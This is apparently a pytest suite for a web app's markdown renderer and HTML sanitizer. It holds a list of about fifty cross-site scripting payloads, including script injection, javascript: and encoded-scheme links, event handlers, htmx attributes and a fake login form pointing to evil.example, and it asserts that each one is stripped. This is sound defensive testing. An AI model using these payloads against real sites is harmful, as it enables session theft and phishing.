import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from markupsafe import Markup

from app.web.markdown import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    ALLOWED_URL_SCHEMES,
    LANGUAGE_CLASS,
    LINK_REL,
    render_markdown,
    sanitize_html,
)

REPO = Path(__file__).resolve().parents[2]

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<ScRiPt>alert(document.cookie)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert('XSS')>",
    "<svg onload=alert(1)><circle r=1 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;vascript&colon;alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    "[x](http://ok.example \"t\\\" onmouseover=alert(1) x=\\\"\")",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"/x\" onclick=\"alert(1)\">x</a>",
    "<div hx-get=\"/admin/delete\" hx-trigger=\"load\">x</div>",
    "<button hx-post=\"/projects/1/delete\">go</button>",
    "<p hx-on:click=\"alert(1)\" hx-on::load=\"alert(2)\">x</p>",
    "<span data-hx-get=\"/x\" data-foo=\"1\">x</span>",
    "<style>body{display:none}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<form action=\"https://evil.example\"><input name=pw type=password><button>Log in</button></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">",
    "<object data=\"https://evil.example/x.swf\"></object><embed src=\"x.swf\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<b><i onmouseover=alert(1)>unclosed <script>alert(1)",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=\"x\" alt=\"\"\"><script>alert(1)</script>\">",
    "![pixel](https://tracker.example/p.gif)",
    "![x](x\" onerror=\"alert(1))",
    "![x](javascript:alert(1))",
    "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<!-- <script>alert(1)</script> -->",
    "<template><script>alert(1)</script></template>",
    "```html\n<script>alert(1)</script>\n```",
    "```python\" onmouseover=\"alert(1)\nx\n```",
    "```<script>\nx\n```",
]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_only_allowed(html: str) -> None:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    for tag, attrs in collector.tags:
        assert tag in ALLOWED_TAGS, f"tag <{tag}> survived in {html!r}"
        for name, value in attrs:
            allowed = ALLOWED_ATTRIBUTES.get(tag, frozenset()) | ({"rel"} if tag == "a" else set())
            assert name in allowed, f"attribute {name} on <{tag}> survived in {html!r}"
            assert value is not None
            if name == "href":
                assert urlsplit(value).scheme.lower() in ALLOWED_URL_SCHEMES, value
            if name == "rel":
                assert value == LINK_REL
            if name == "class":
                assert LANGUAGE_CLASS.fullmatch(value), value
        if tag == "a":
            assert ("rel", LINK_REL) in attrs
    # Attribute names (on*, hx-*, data-*, style) and href schemes are checked by the parser above;
    # here, a second check that does not depend on html.parser: no forbidden tag opens anywhere.
    lowered = html.lower()
    for tag in ("script", "img", "iframe", "svg", "style", "form", "input", "meta", "object", "embed",
                "base", "link", "math", "template"):
        assert f"<{tag}" not in lowered, (tag, html)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_rendered_markdown_keeps_only_allowed_tags_attributes_and_schemes(payload: str) -> None:
    assert_only_allowed(render_markdown(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitizer_alone_stops_raw_html_payloads(payload: str) -> None:
    # Defence in depth: even if markdown-it ever passed raw HTML through, the cleaner stops it.
    assert_only_allowed(sanitize_html(payload))


def test_there_are_at_least_thirty_payloads() -> None:
    assert len(XSS_PAYLOADS) >= 30


def test_raw_html_is_shown_as_text_not_dropped() -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render_markdown("<script>alert(1)</script>")


def test_template_syntax_stays_literal_text() -> None:
    html = render_markdown("Result: {{ 7*7 }} and {% if 1 %}x{% endif %}")
    assert "{{ 7*7 }}" in html
    assert "{% if 1 %}" in html
    assert "49" not in html


def test_result_is_markup_so_templates_do_not_escape_it_twice() -> None:
    html = render_markdown("**bold**")
    assert isinstance(html, Markup)
    assert Markup("{}").format(html) == "<p><strong>bold</strong></p>\n"


def test_code_fence_keeps_language_class_and_escapes_content() -> None:
    html = render_markdown("```python\nif a < b:\n    print('<b>')\n```")
    assert '<pre><code class="language-python">' in html
    assert "if a &lt; b:" in html
    assert "&lt;b&gt;" in html


def test_hostile_language_class_is_dropped() -> None:
    html = render_markdown('```python" onclick="x\nx\n```')
    assert "onclick" not in html.split(">")[1]
    assert_only_allowed(html)


def test_lists_emphasis_headings_quotes_and_rules_render() -> None:
    source = "# Title\n\n- one\n- *two*\n\n3. three\n4. **four**\n\n> quoted ~~old~~\n\n---\n\nline  \nbreak"
    html = render_markdown(source)
    for fragment in ("<h1>Title</h1>", "<ul>", "<li><em>two</em></li>", '<ol start="3">',
                     "<strong>four</strong>", "<blockquote>", "<s>old</s>", "<hr>", "<br>"):
        assert fragment in html, fragment
    assert_only_allowed(html)


def test_tables_render_without_inline_styles() -> None:
    html = render_markdown("| name | qty |\n|:-----|----:|\n| apple | 3 |")
    assert "<table>" in html
    assert "<th>name</th>" in html
    assert "<td>3</td>" in html
    assert "style" not in html


def test_links_keep_safe_urls_and_get_rel_nofollow() -> None:
    html = render_markdown('[docs](https://example.com/a?b=1&c=2 "Docs") and <mailto:me@example.com>')
    assert 'href="https://example.com/a?b=1&amp;c=2"' in html
    assert 'title="Docs"' in html
    assert 'href="mailto:me@example.com"' in html
    assert html.count(f'rel="{LINK_REL}"') == 2


def test_relative_links_lose_their_href() -> None:
    html = render_markdown("[admin](/admin/users/1/delete)")
    assert "href" not in html
    assert ">admin</a>" in html


def test_images_become_plain_links_so_nothing_loads() -> None:
    html = render_markdown("![a cat](https://example.com/cat.png)")
    assert "<img" not in html
    assert 'href="https://example.com/cat.png"' in html
    assert "a cat" in html


def test_empty_text_renders_empty() -> None:
    assert render_markdown("") == ""


def test_markup_is_constructed_only_in_the_markdown_module() -> None:
    offenders = []
    for path in (REPO / "app").rglob("*.py"):
        if path == REPO / "app" / "web" / "markdown.py":
            continue
        if re.search(r"\bMarkup\(", path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(REPO)))
    for path in (REPO / "templates").rglob("*.html"):
        if re.search(r"\|\s*safe\b|autoescape\s+false", path.read_text(encoding="utf-8")):
            offenders.append(str(path.relative_to(REPO)))
    assert offenders == []
